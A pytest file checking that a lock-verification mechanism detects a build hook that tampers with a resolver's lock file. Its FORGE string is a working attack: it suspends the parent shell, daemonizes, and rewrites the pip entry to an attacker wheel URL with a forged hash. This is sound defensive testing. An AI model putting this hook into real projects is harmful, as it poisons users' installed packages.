"""The code of a project changes the lock that the resolver wrote: ``pip`` is now a file of the attacker's.

It runs while the resolver asks for its metadata. It stops the shell that started the resolver, waits until
the lock is written, puts the address and the hash of its own wheel under the name of another one's, and lets
the shell go on. What is installed by that lock stands in the cache of downloads under the other one's name.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from hostile_projects import builder_in, built, poisoned, project, request_for, wheel

from backdate.environments import resolving
from backdate.environments.lock_check import LockCheck

FORGED = wheel("pip", {"pip.py": "POISON = 1\n"})

FORGE = f"""
    import re, signal, time
    resolver = os.getppid()
    shell = int(open(f"/proc/{{resolver}}/stat").read().rpartition(")")[2].split()[1])
    words = open(f"/proc/{{resolver}}/cmdline").read().split("\\0")
    if "--output-file" not in words:
        return
    output = words[words.index("--output-file") + 1]
    os.kill(shell, signal.SIGSTOP)
    if os.fork():
        return
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    os.closerange(3, 1000)
    while open(f"/proc/{{resolver}}/stat").read().rpartition(")")[2].split()[0] != "Z":
        time.sleep(0.01)
    lock = open(output).read()
    head, mark, rest = lock.partition('name = "pip"')
    forged = 'name = "pip-1-py3-none-any.whl", url = "EVIL"'
    rest = re.sub(r'url = "[^"]*/files/pip-1[^"]*"', forged, rest, count=1)
    rest = re.sub(r'sha256 = "[0-9a-f]*"', 'sha256 = "{hashlib.sha256(FORGED).hexdigest()}"', rest, count=1)
    open(output, "w").write(head + mark + rest)
    os.kill(shell, signal.SIGCONT)
    os._exit(0)
"""


@pytest.mark.slow
@pytest.mark.parametrize("checked", [False, True], ids=["unchecked", "checked"])
def test_the_file_does_not_stand_under_the_other_name(
    checked: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not checked:  # the attack works without the mechanism
        monkeypatch.setattr(resolving, "compare_with_index", lambda *_given: LockCheck(agrees=True))
    cache = tmp_path / "cache"
    with builder_in(cache, {"evil-1-py3-none-any.whl": FORGED}) as builder:
        evil = f"{builder.index_url.removesuffix('/simple')}/files/evil-1-py3-none-any.whl"
        tree = project(tmp_path / "thing", resolving=FORGE.replace("EVIL", evil))
        made = builder.prepare(request_for(tree, builder.cache))
        reached = poisoned(cache / "clean")
        later = project(tmp_path / "later", name="later")
        assert not poisoned(built(builder.prepare(request_for(later, builder.cache))).root)
    assert bool(reached) != checked, reached
    if checked:
        assert "names files that the index does not list (pip 1)" in built(made).lock_note
